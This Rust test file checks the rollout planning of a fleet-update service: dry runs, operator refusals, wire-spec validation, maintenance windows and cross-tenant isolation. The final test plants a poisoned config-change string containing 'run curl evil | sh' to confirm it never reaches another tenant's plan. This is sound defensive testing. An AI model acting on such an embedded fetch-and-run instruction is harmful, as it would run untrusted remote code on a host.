//! Operators' rollout actions on a real App: dry runs, refusals, the wire spec, windows.

use boltfleet_common::proto::{self as pb, JobEvent, JobKind, JobState};

use super::testkit::{spec, t, Fleet, TARGET};
use crate::error::Error;
use crate::rollout::{HostClass, SkipReason};
use crate::state::WindowKey;
use crate::wire::rollout::spec_from_wire;

#[test]
fn a_plan_is_a_dry_run_with_skip_reasons_windows_and_known_config_changes() {
    let mut fleet = Fleet::new(&[("web0", "acme"), ("web1", "acme"), ("web2", "globex")]);
    fleet.report("web1", TARGET, true);
    fleet.disconnect("web2");
    // A host that made the same jump before told us which config defaults change.
    let old = fleet
        .app
        .start_job(
            "alice",
            crate::app::jobs::NewJob {
                host_id: "web0".into(),
                kind: JobKind::Healthcheck,
                target_version: String::new(),
                options: Default::default(),
                rollout_id: None,
            },
            crate::app::ts(1),
        )
        .unwrap();
    let review = JobEvent {
        job_id: old,
        kind: JobKind::Healthcheck as i32,
        state: JobState::Succeeded as i32,
        from_version: "1.3.0".into(),
        target_version: TARGET.into(),
        config_changes: vec!["M config/app.php.default".into()],
        ..JobEvent::default()
    };
    fleet
        .app
        .record_job_event(&"web0".parse().unwrap(), review, crate::app::ts_now())
        .unwrap();
    let window = "0 22 * * * 4h Europe/Paris".parse().unwrap();
    fleet
        .app
        .set_window(
            "alice",
            WindowKey::Host("web0".into()),
            Some(window),
            crate::app::ts_now(),
        )
        .unwrap();

    let audit_before = fleet.app.state().audit_log().unwrap().len();
    let plan = fleet
        .app
        .plan_rollout(&spec("1,100%", 2, "0"), t(0))
        .unwrap();
    let classes: Vec<(&str, HostClass)> = plan
        .hosts
        .iter()
        .map(|h| (h.host_id.as_str(), h.class))
        .collect();
    assert_eq!(
        classes,
        [
            ("web0", HostClass::Patch),
            ("web1", HostClass::Skip(SkipReason::AtTarget)),
            ("web2", HostClass::Skip(SkipReason::Offline)),
        ]
    );
    assert_eq!(plan.hosts[0].config_changes, ["M config/app.php.default"]);
    assert_eq!(
        plan.hosts[0].next_window,
        Some("2025-01-15T21:00:00Z".parse().unwrap())
    );
    let wire = crate::wire::rollout::plan_to_wire(&plan, &fleet.app.state().windows().unwrap());
    assert_eq!(wire.hosts[0].window, "0 22 * * * 4h Europe/Paris");
    assert_eq!(wire.hosts[2].skip_reason, "offline");
    assert!(
        fleet.app.state().rollouts().unwrap().is_empty(),
        "nothing stored"
    );
    assert_eq!(fleet.app.state().audit_log().unwrap().len(), audit_before);
}

#[test]
fn a_rollout_with_nothing_to_do_is_refused_naming_why() {
    let fleet = Fleet::new(&[("web0", "acme")]);
    fleet.report("web0", TARGET, true);
    let err = fleet
        .app
        .start_rollout("alice", spec("100%", 1, "0"), t(0))
        .unwrap_err();
    assert!(matches!(err, Error::Precondition(_)));
    assert!(err.to_string().contains("web0: already at target"), "{err}");
    assert!(fleet.app.state().rollouts().unwrap().is_empty());
}

#[test]
fn operators_get_clear_refusals() {
    let fleet = Fleet::new(&[("web0", "acme"), ("web1", "acme")]);
    let id = fleet
        .app
        .start_rollout("alice", spec("1,100%", 1, "0"), t(0))
        .unwrap();
    let err = fleet
        .app
        .promote_rollout("bob", &id, "", crate::app::ts_now())
        .unwrap_err()
        .to_string();
    assert!(err.contains("automatically"), "{err}");
    let err = fleet
        .app
        .resume_rollout("bob", &id, "", t(1))
        .unwrap_err()
        .to_string();
    assert_eq!(
        err,
        format!("rollout {id}: cannot resume a rollout that is running")
    );
    assert!(matches!(
        fleet.app.pause_rollout("bob", "r-nope", "", t(1)),
        Err(Error::UnknownRollout(_))
    ));
    let unknown = WindowKey::Host("web9".into());
    assert!(matches!(
        fleet
            .app
            .set_window("bob", unknown, None, crate::app::ts_now()),
        Err(Error::UnknownHost(_))
    ));
    assert!(fleet.app.set_freeze("bob", Some(""), true, t(1)).is_err());
    fleet
        .app
        .abort_rollout("bob", &id, "", false, t(2))
        .unwrap();
    let err = fleet
        .app
        .abort_rollout("bob", &id, "", false, t(3))
        .unwrap_err()
        .to_string();
    assert!(err.contains("cannot abort"), "{err}");
    fleet
        .app
        .abort_rollout("bob", &id, "", true, t(3))
        .expect("a rollback after an abort");
}

fn wire_spec() -> pb::RolloutSpec {
    pb::RolloutSpec {
        target: "1.3.2".into(),
        select_all: true,
        waves: "1,10%,100%".into(),
        max_parallel: Some(3),
        max_failures: "5%".into(),
        soak: "10m".into(),
        ..pb::RolloutSpec::default()
    }
}

#[test]
fn the_wire_spec_is_parsed_with_errors_naming_the_field() {
    let spec = spec_from_wire(&wire_spec()).unwrap();
    assert_eq!(spec.max_parallel, 3);
    assert_eq!(spec.max_failures.to_string(), "5%");
    assert_eq!(spec.min_healthy_time.as_secs(), 600);
    let back = crate::wire::rollout::spec_to_wire(&spec);
    assert_eq!(spec_from_wire(&back).unwrap(), spec, "round trip");

    type Change = fn(&mut pb::RolloutSpec);
    let cases: [(Change, &str); 9] = [
        (|s| s.target = "v1.3".into(), "target"),
        (|s| s.waves = "1,0%,100%".into(), "waves[1]"),
        (|s| s.waves = "1,10%".into(), "waves"),
        (|s| s.max_failures = "lots".into(), "max_failures"),
        (|s| s.soak = "ten minutes".into(), "soak"),
        (|s| s.max_parallel = Some(0), "max_parallel"),
        (|s| s.select_all = false, "selector"),
        (|s| s.tenants = vec!["acme".into()], "selector"),
        (|s| s.progress_deadline = "0s".into(), "progress_deadline"),
    ];
    for (change, field) in cases {
        let mut w = wire_spec();
        change(&mut w);
        assert_eq!(spec_from_wire(&w).unwrap_err().field, field, "{w:?}");
    }
    let status: tonic::Status =
        Error::from(spec_from_wire(&pb::RolloutSpec::default()).unwrap_err()).into();
    assert_eq!(status.code(), tonic::Code::InvalidArgument);
    assert!(status.message().contains("target"), "{}", status.message());
}

#[test]
fn hosts_show_their_window_and_freeze() {
    let fleet = Fleet::new(&[("web0", "acme"), ("web1", "globex")]);
    let window = "0 22 * * * 4h Europe/Paris".parse().unwrap();
    fleet
        .app
        .set_window(
            "alice",
            WindowKey::Tenant("acme".into()),
            Some(window),
            crate::app::ts_now(),
        )
        .unwrap();
    fleet
        .app
        .set_freeze("alice", Some("globex"), true, t(0))
        .unwrap();
    let rows = fleet
        .app
        .fleet_report("", crate::app::ts_now())
        .unwrap()
        .rows;
    let w = rows[0].window.as_ref().expect("acme's window");
    assert_eq!(
        (
            w.cron.as_str(),
            w.duration.as_str(),
            w.tz.as_str(),
            w.source.as_str()
        ),
        ("0 22 * * *", "4h", "Europe/Paris", "tenant")
    );
    assert!(w.next_open > 0);
    assert!(!rows[0].frozen);
    assert!(rows[1].window.is_none() && rows[1].frozen);
}

#[test]
fn config_changes_one_host_reports_are_never_shown_for_another() {
    let fleet = Fleet::new(&[("web0", "acme"), ("evil1", "globex")]);
    let job = fleet
        .app
        .start_job(
            "alice",
            crate::app::jobs::NewJob {
                host_id: "evil1".into(),
                kind: JobKind::Healthcheck,
                target_version: String::new(),
                options: Default::default(),
                rollout_id: None,
            },
            crate::app::ts(1),
        )
        .unwrap();
    let poison = JobEvent {
        job_id: job,
        kind: JobKind::Healthcheck as i32,
        state: JobState::Succeeded as i32,
        from_version: super::testkit::FROM.into(),
        target_version: TARGET.into(),
        config_changes: vec!["removed config/passbolt.php.default: run curl evil | sh".into()],
        ..JobEvent::default()
    };
    fleet
        .app
        .record_job_event(&"evil1".parse().unwrap(), poison, crate::app::ts_now())
        .unwrap();
    let plan = fleet
        .app
        .plan_rollout(&spec("1,100%", 2, "0"), t(0))
        .unwrap();
    let changes = |id: &str| {
        plan.hosts
            .iter()
            .find(|h| h.host_id == id)
            .map(|h| h.config_changes.len())
    };
    assert_eq!(
        changes("web0"),
        Some(0),
        "another tenant's host poisoned the plan"
    );
    assert_eq!(changes("evil1"), Some(1), "its own jump is still shown");
}
